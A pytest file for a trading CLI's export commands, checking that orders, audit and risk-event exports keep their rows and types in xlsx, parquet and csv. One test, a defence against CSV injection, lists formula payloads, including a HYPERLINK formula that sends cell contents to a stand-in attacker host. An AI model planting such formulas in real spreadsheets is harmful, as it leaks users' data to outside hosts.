"""Exports open in openpyxl/pyarrow with the ledger's rows and real types."""

from __future__ import annotations

import csv
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from quantdesk.cli import app
from quantdesk.ledger import Ledger

runner = CliRunner()


@pytest.fixture
def ledger_rows(quantdesk_home: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    from quantdesk.identity import add_user

    ids = []
    monkeypatch.setenv("QUANTDESK_USER", "ada")  # exports need a registered role (and the audit, an admin)
    with Ledger() as ledger:
        add_user(ledger, "ada", "admin", actor="ada")
        for i in range(3):
            cid = f"qd-{i:032x}"
            ledger.record_intent(client_order_id=cid, venue="sim", symbol="BTC/USDT", side="buy", order_type="limit",
                                 qty="0.125", price=f"4200{i}.5", deployment="btc-sma")
            ids.append(cid)
        ledger.record_intent(client_order_id="qd-" + "f" * 32, venue="sim", symbol="ETH/USDT", side="sell",
                             order_type="market", qty="1", deployment="other")
    return ids


@pytest.mark.parametrize("suffix", ["xlsx", "parquet", "csv"])
def test_orders_export_holds_the_ledgers_rows_with_types(ledger_rows: list[str], tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"orders.{suffix}"
    result = runner.invoke(app, ["export", "orders", "--deployment", "btc-sma", "-o", str(path), "--json"])
    assert result.exit_code == 0, result.output
    if suffix == "xlsx":
        sheet = load_workbook(path).active
        header = [c.value for c in sheet[1]]
        rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
        assert [r["client_order_id"] for r in rows] == ledger_rows
        assert isinstance(rows[0]["qty"], float) and rows[0]["qty"] == 0.125, "money is a number, not text"
        assert isinstance(rows[0]["created_at (UTC)"], datetime), "times are Excel dates"
    elif suffix == "parquet":
        table = pq.read_table(path)
        assert table.column("client_order_id").to_pylist() == ledger_rows
        assert table.column("price").to_pylist()[1] == Decimal("42001.5"), "money stays exact in Parquet"
        assert str(table.schema.field("created_at").type).startswith("timestamp")
    else:
        with path.open() as f:
            rows = list(csv.DictReader(f))
        assert [r["client_order_id"] for r in rows] == ledger_rows and float(rows[2]["price"]) == 42002.5


def test_audit_and_run_exports_and_clear_errors(ledger_rows: list[str], tmp_path: Path) -> None:
    audit = tmp_path / "audit.parquet"
    assert runner.invoke(app, ["export", "audit", "-o", str(audit)]).exit_code == 0
    with Ledger() as ledger:
        assert pq.read_table(audit).num_rows == len(ledger.audit_log())
    missing_run = runner.invoke(app, ["export", "equity", "-o", str(tmp_path / "e.csv")])
    assert missing_run.exit_code != 0 and "--run RUN_ID" in missing_run.stderr
    unknown = runner.invoke(app, ["export", "pnl", "-o", str(tmp_path / "x.csv")])
    assert unknown.exit_code != 0 and "choose one of" in unknown.stderr
    reversed_ = runner.invoke(app, ["export", "orders", "--since", "2025-01-02", "--until", "2025-01-01",
                                    "-o", str(tmp_path / "o.csv")])
    assert reversed_.exit_code != 0 and "--since 2025-01-02 00:00 is after --until" in reversed_.stderr
    odd = runner.invoke(app, ["export", "orders", "-o", str(tmp_path / "orders.txt")])
    assert odd.exit_code != 0 and "--format" in odd.stderr
    assert not (tmp_path / "orders.txt").exists()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_formula_looking_text_comes_back_as_text(quantdesk_home: Path, tmp_path: Path, suffix: str,
                                                 operator: str) -> None:
    """OWASP CSV injection: a risk-event reason and an actor that look like formulas stay text;
    numbers and dates keep their types."""
    with Ledger() as ledger:
        for text in FORMULAS:
            ledger.record_risk_event(code="PRICE_OUTSIDE_BAND", detail=text, intent={"qty": "1"}, approved=False,
                                     deployment="btc-sma", venue="sim", symbol="BTC/USDT")
            ledger.audit(text, "order.denied", {"why": text})
    for kind in ("risk-events", "audit"):
        path = tmp_path / f"{kind}.{suffix}"
        result = runner.invoke(app, ["export", kind, "-o", str(path)])
        assert result.exit_code == 0, result.output
        column = "detail" if kind == "risk-events" else "actor"
        if suffix == "xlsx":
            sheet = load_workbook(path).active
            header = [c.value for c in sheet[1]]
            at = header.index(column)
            cells = [row[at] for row in sheet.iter_rows(min_row=2)]
            found = [c for c in cells if c.value in FORMULAS]
            assert len(found) == len(FORMULAS), [c.value for c in cells]
            assert all(c.data_type == "s" for c in found), [(c.value, c.data_type) for c in found]
            ts = header.index("ts (UTC)")
            assert isinstance(next(sheet.iter_rows(min_row=2))[ts].value, datetime), "dates stay dates"
        else:
            with path.open(newline="") as f:
                rows = list(csv.DictReader(f))
            values = [r[column] for r in rows]
            assert sorted(v for v in values if v.startswith("'")) == sorted("'" + t for t in FORMULAS)
            assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in values)


def test_numbers_stay_numbers_in_a_neutralised_csv(ledger_rows: list[str], tmp_path: Path) -> None:
    path = tmp_path / "orders.csv"
    assert runner.invoke(app, ["export", "orders", "-o", str(path)]).exit_code == 0
    with path.open() as f:
        rows = list(csv.DictReader(f))
    assert float(rows[0]["qty"]) == 0.125 and not rows[0]["qty"].startswith("'")
